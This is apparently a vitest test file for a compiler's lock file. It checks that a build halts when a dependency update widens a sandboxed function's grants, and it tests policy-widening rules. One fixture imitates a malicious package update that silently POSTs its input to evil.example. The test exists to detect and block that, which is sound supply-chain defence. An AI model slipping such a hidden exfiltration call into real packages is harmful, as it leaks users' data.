import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ColonyError, Policy } from '@colony/core';
import { describe, expect, it, onTestFinished } from 'vitest';
import { Compiler, type CompilerOptions, grantIncreases, inCi } from '../src/index.js';
import { folderWith } from './plugins/bundlers.js';

const MAIN = `import { pad } from 'tiny-pad';
export async function show(text: string): Promise<string> {
  'use virtine';
  return pad(text);
}
`;
const PACKAGE = (version: string) => JSON.stringify({ name: 'tiny-pad', version, type: 'module', main: 'index.js' });
const HARMLESS = 'export const pad = (text) => text.padStart(9);\n';
const CURIOUS = `function trace(text) {
  fetch('https://evil.example/log', { method: 'POST', body: text });
}
export const pad = (text) => { trace(text); return text.padStart(9); };
`;

/** The package is linked from a folder of the project, because node_modules is the repository's own. */
function projectWith(files: Readonly<Record<string, string>> = {}) {
  const { folder, close } = folderWith({
    'src/main.ts': MAIN,
    'src/node_modules/tiny-pad/package.json': PACKAGE('1.0.0'),
    'src/node_modules/tiny-pad/index.js': HARMLESS,
    ...files,
  });
  onTestFinished(close);
  const write = (name: string, text: string) => writeFileSync(join(folder, name), text);
  return {
    write,
    update(version: string, text: string) {
      write('src/node_modules/tiny-pad/package.json', PACKAGE(version));
      write('src/node_modules/tiny-pad/index.js', text);
    },
    lock: () => readFileSync(join(folder, 'colony.lock.json'), 'utf8'),
    async build(options: Omit<CompilerOptions, 'root'> = {}) {
      const compiler = new Compiler({ root: folder, lock: true, frozen: false, ...options });
      try {
        const output = await compiler.compileFile('src/main.ts');
        return { warnings: output?.warnings ?? [], wrote: await compiler.saveLock() };
      } finally {
        await compiler.dispose();
      }
    },
  };
}

describe('the lock file', () => {
  it('records hashes, grants and versions, with the same bytes each time', async () => {
    const made = projectWith();
    expect(await made.build()).toEqual({ warnings: [], wrote: true });
    const text = made.lock();
    const { virtines } = JSON.parse(text);
    expect(virtines).toEqual({
      'src/main.ts#show': {
        content: expect.stringMatching(/^sha256-[0-9a-f]{64}$/),
        program: expect.stringMatching(/[0-9a-f]{64}/),
        shape: expect.stringMatching(/^sha256-[0-9a-f]{64}$/),
        policy: {},
        packages: { 'tiny-pad': ['1.0.0'] },
      },
    });
    expect((await made.build()).wrote).toBe(false);
    const other = projectWith();
    await other.build();
    expect(other.lock()).toBe(text);
    made.update('1.0.1', `${HARMLESS}export const more = 1;\n`);
    await made.build();
    expect(JSON.parse(made.lock()).virtines['src/main.ts#show'].packages).toEqual({ 'tiny-pad': ['1.0.1'] });
  });

  it('stops a frozen build when an update of a package widens a grant, until a person accepts it', async () => {
    const made = projectWith();
    await made.build();
    const before = made.lock();
    made.update('1.1.0', CURIOUS);
    const error = (await made.build({ frozen: true }).catch((reason: unknown) => reason)) as ColonyError;
    expect(error.code).toBe('ERR_COMPILE');
    expect(error.message).toMatch(/^src\/main\.ts:2:8: virtine `show`: wider than colony\.lock\.json says: fetch POST/);
    expect(error.message).toContain('because of tiny-pad 1.0.0 -> 1.1.0: fetch https://evil.example');
    expect(error.message).toMatch(
      /show \(src\/main\.ts:2:8\)\n.*-> pad .*\n.*-> trace .*\n.*-> fetch https:\/\/evil\.example \(src\/node_modules\/tiny-pad\/index\.js:2:\d+\)/,
    );
    expect(error.message).toContain('colony explain src/main.ts --accept');
    expect(error.details['widened']).toMatchObject([{ grant: 'fetch', virtine: 'show' }]);
    expect(made.lock()).toBe(before);
    // In a person's build it is a warning, and the lock keeps what was accepted.
    const warned = await made.build();
    expect(warned.warnings.join('\n')).toContain('wider than colony.lock.json says');
    expect(made.lock()).toBe(before);
    expect(await made.build({ acceptGrants: true })).toEqual({ warnings: [], wrote: true });
    expect((await made.build({ frozen: true })).warnings).toEqual([]);
    expect(JSON.parse(made.lock()).virtines['src/main.ts#show'].policy.fetch).toEqual([
      { methods: ['POST'], origin: 'https://evil.example' },
    ]);
  });

  it('narrows by itself, but not in a frozen build', async () => {
    const made = projectWith({ 'src/node_modules/tiny-pad/index.js': CURIOUS });
    await made.build();
    const before = made.lock();
    made.update('2.0.0', HARMLESS);
    expect(await made.build({ frozen: true })).toEqual({ warnings: [], wrote: false });
    expect(made.lock()).toBe(before);
    expect(await made.build()).toEqual({ warnings: [], wrote: true });
    expect(JSON.parse(made.lock()).virtines['src/main.ts#show'].policy).toEqual({});
  });

  it('refuses grants of an unknown virtine in a frozen build', async () => {
    const made = projectWith();
    await expect(made.build({ frozen: true })).rejects.toMatchObject({
      code: 'ERR_COMPILE',
      message: expect.stringMatching(/colony\.lock\.json: there is no lock file/),
    });
    await made.build();
    made.write('src/main.ts', `${MAIN}export async function now() {\n  'use virtine';\n  return Date.now();\n}\n`);
    await expect(made.build({ frozen: true })).rejects.toMatchObject({
      message: expect.stringMatching(
        /virtine `now`: it is not in colony\.lock\.json, and is granted clock\n.*the project itself: Date\.now/,
      ),
    });
    await made.build();
    expect(Object.keys(JSON.parse(made.lock()).virtines)).toEqual(['src/main.ts#now', 'src/main.ts#show']);
    made.write('src/main.ts', MAIN);
    await made.build();
    expect(Object.keys(JSON.parse(made.lock()).virtines)).toEqual(['src/main.ts#show']);
  });

  it('is reported if it is damaged', async () => {
    const made = projectWith();
    for (const text of [
      '<<<<<<<',
      '{"format":2}',
      '{"format":1,"virtines":{"a#b":{"policy":{"clocks":true},"packages":{}}}}',
    ]) {
      made.write('colony.lock.json', text);
      await expect(made.build()).rejects.toMatchObject({
        code: 'ERR_COMPILE',
        message: expect.stringMatching(/^colony\.lock\.json: the lock file cannot be used/),
      });
    }
  });
});

it('is frozen if the variable CI is set', () => {
  expect([{}, { CI: '' }, { CI: 'false' }, { CI: '0' }, { CI: 'true' }, { CI: '1' }].map((env) => inCi(env))).toEqual([
    false,
    false,
    false,
    false,
    true,
    true,
  ]);
});

describe('a policy is wider', () => {
  const save = (grant: object) => ({ hypercalls: { save: grant } }) as Policy;
  it.each<[string, Policy, Policy, string[]]>([
    ['nothing', { console: true }, { console: true }, []],
    ['less', { console: true, clock: true }, { clock: { fixed: 0 } }, []],
    ['a section', {}, { console: true, random: true }, ['console', 'random']],
    ['the real clock', { clock: { fixed: 0 } }, { clock: true }, ['clock']],
    ['a variable', { env: ['A'] }, { env: ['A', 'B'] }, ["env 'B'"]],
    ['a folder above', { fs: { read: ['/a/b'] } }, { fs: { read: ['/a'] } }, ["fs.read '/a'"]],
    ['a folder below', { fs: { read: ['/a'] } }, { fs: { read: ['/a/b'] } }, []],
    ['writing', { fs: { read: ['/a'] } }, { fs: { read: ['/a'], write: ['/a'] } }, ["fs.write '/a'"]],
    [
      'larger files',
      { fs: { read: ['/a'] } },
      { fs: { read: ['/a'], maxBytes: '9 MiB' } },
      ['fs.maxBytes: 9437184, was 8388608'],
    ],
    ['larger files of no folder', {}, { fs: { maxBytes: '9 MiB' } }, []],
    [
      'larger files in a layer below',
      { all: [{ fs: { read: ['/a'], maxBytes: '9 MiB' } }, { fs: { read: ['/a'], maxBytes: 5 } }] },
      { all: [{ fs: { read: ['/a'], maxBytes: '9 MiB' } }, { fs: { read: ['/a'] } }] },
      ['fs.maxBytes: 9437184, was 5'],
    ],
    [
      'a method',
      { fetch: [{ origin: 'https://a.example' }] },
      { fetch: [{ origin: 'https://a.example', methods: ['GET', 'PUT'] }] },
      ['fetch PUT https://a.example'],
    ],
    ['a hypercall', {}, save({}), ['hypercalls.save']],
    ['any argument', save({ args: [{ equals: 1 }] }), save({}), ['hypercalls.save, with other arguments']],
    [
      'another value',
      save({ args: [{ oneOf: [1, 2] }] }),
      save({ args: [{ oneOf: [1, 3] }] }),
      ['hypercalls.save, with other arguments'],
    ],
    ['a value among those', save({ args: [{ oneOf: [1, 2] }] }), save({ args: [{ equals: 2 }] }), []],
    [
      'a value that a condition takes',
      save({ args: [{ type: 'string', maxLength: 3 }] }),
      save({ args: [{ equals: 'abc' }] }),
      [],
    ],
    [
      'a condition less',
      save({ args: [{ type: 'string', maxLength: 3 }] }),
      save({ args: [{ type: 'string' }] }),
      ['hypercalls.save, with other arguments'],
    ],
    [
      'one argument more',
      save({ args: [true] }),
      save({ args: [true, true] }),
      ['hypercalls.save, with other arguments'],
    ],
    [
      'no argument instead of a certain one',
      save({ args: [{ equals: 'a' }] }),
      save({ args: [] }),
      ['hypercalls.save, with other arguments'],
    ],
    ['no argument instead of any', save({ args: [true, { type: 'undefined' }] }), save({ args: [] }), []],
    [
      'the last argument left out',
      save({ args: [true, { min: 1 }] }),
      save({ args: [true] }),
      ['hypercalls.save, with other arguments'],
    ],
    [
      'a demand on isolation less',
      { isolation: { boundary: ['process'], mechanisms: ['seccomp', 'landlock'] } },
      { isolation: { boundary: ['process'], mechanisms: ['seccomp'] } },
      ['isolation'],
    ],
    [
      'a demand on isolation more',
      { isolation: { boundary: ['process', 'wasm'] } },
      { isolation: { boundary: ['process'], mechanisms: ['seccomp'], limits: ['memory'] } },
      [],
    ],
    [
      'layers behind an empty list',
      { all: [{ all: [] }, { hypercalls: { save: { args: [{ equals: 1 }] } } }] },
      { all: [{ hypercalls: { save: { args: [{ equals: 1 }] } } }] },
      ['hypercalls.save'],
    ],
    [
      'another of two fixed clocks',
      { all: [{ clock: { fixed: 0 } }, { clock: { fixed: 1 } }] },
      { all: [{ clock: { fixed: 1 } }, { clock: { fixed: 0 } }] },
      ['clock'],
    ],
    ['more calls', save({ maxCalls: 2 }), save({ maxCalls: 3 }), ['hypercalls.save, more often or with more bytes']],
    [
      'a faster rate',
      save({ maxRate: '10/s' }),
      save({ maxRate: '100/min' }),
      ['hypercalls.save, more often or with more bytes'],
    ],
    ['no limit', { limits: { wallTime: '1 ms' } }, { limits: { wallTime: '2 ms' } }, ['limits.wallTime: 2, was 1']],
    ['a layer dropped', { all: [{ console: true }, { clock: true }] }, { console: true }, ['console']],
    ['layers that narrow', { console: true }, { all: [{ console: true, clock: true }, { console: true }] }, []],
  ])('%s', (_name, before, after, expected) => {
    expect(grantIncreases(before, after).map(({ what }) => what)).toEqual(expected);
  });
});
